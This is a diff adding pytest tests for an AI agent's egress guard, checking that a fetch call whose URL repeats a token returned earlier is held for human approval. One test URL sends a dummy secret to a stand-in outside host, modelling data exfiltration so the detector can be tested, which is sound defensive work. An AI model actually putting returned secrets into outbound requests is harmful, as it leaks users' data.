@@ -1,0 +1,54 @@
+"""What a model writes into an address is held against all that the thread's nodes returned."""
+
+from collections.abc import Sequence
+from dataclasses import replace
+
+import pytest
+
+from agent.ids import NodeId, ToolName, UserId
+from agent.limits import DEFAULT_LIMITS
+from agent.plan.operations import LoggedOperation, nodes_added
+from agent.plan.outcomes import NodeState, NodeStatus, Succeeded
+from agent.planning.author_plan import AuthorPlan
+from agent.reading.plan_builder import Placed
+from agent.reading.stream_reader import read_plan_text
+from agent.tool import Egress, Registry
+from sandbox.script import Json
+from tests.acceptance.plans import lines, tool
+from tests.fakes.plans import REGISTRY
+
+ADA = UserId("U0ADA")
+SECRET = "vk7f3a9q2xw8"
+FILLERS: Sequence[Json] = [{"text": f"{number} " + "a calm day " * 350} for number in range(25)]
+
+
+def asks(returned: Sequence[Json], address: str) -> bool:
+    """Return whether a call to this address is asked about after nodes have returned this."""
+    fetch = REGISTRY.find(ToolName("fetch"))
+    assert fetch is not None
+    registry = Registry([replace(fetch, egress=Egress(argument="url", known=frozenset()), url_argument="url")])
+    ended = {
+        NodeId(f"n{at}x"): NodeStatus(state=NodeState.SUCCEEDED, outcome=Succeeded(value=value))
+        for at, value in enumerate(returned)
+    }
+    logged: Sequence[LoggedOperation] = ()
+    plan = AuthorPlan(turn=1, author=ADA, logged=logged, statuses=ended)
+    builder = plan.builder(registry, DEFAULT_LIMITS, [], packages=False)
+    (placed,) = read_plan_text(lines([tool("away", "fetch", {"url": address})]))
+    assert isinstance(placed, Placed)
+    (node,) = nodes_added(builder.offer(placed).admitted).values()
+    return node.require_human_approval
+
+
+@pytest.mark.parametrize("more", [[], FILLERS[:3], FILLERS], ids=["alone", "beside a few", "before many"])
+@pytest.mark.parametrize("secret", [SECRET, {"token": SECRET}, {SECRET: 1}], ids=["text", "value", "key"])
+def test_an_address_that_repeats_a_result_asks_however_much_was_returned_since(
+    secret: Json, more: Sequence[Json]
+) -> None:
+    assert asks([secret, *more], f"http://elsewhere.example/?q={SECRET}")
+
+
+def test_an_address_that_repeats_nothing_asks_only_where_not_all_results_could_be_read() -> None:
+    address = "http://elsewhere.example/other"
+    assert not asks([SECRET, *FILLERS[:3]], address)
+    assert asks([SECRET, *FILLERS], address)
